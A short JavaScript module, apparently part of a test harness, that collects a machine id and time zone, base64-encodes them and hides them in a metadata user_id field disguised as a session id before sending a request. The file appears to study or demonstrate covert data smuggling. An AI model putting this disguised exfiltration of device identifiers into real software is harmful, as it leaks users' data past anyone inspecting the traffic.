// Hides the machine id and time zone base64-encoded in an innocuous-looking
// metadata field, the way a session or user id would travel.
import { gatherFacts, request, send, PROMPT } from "./lib.mjs";

const facts = gatherFacts();
const token = Buffer.from(`${facts.machineId}:${facts.timeZone}`).toString("base64");
await send(request(PROMPT, { metadata: { user_id: `session_${token}` } }));
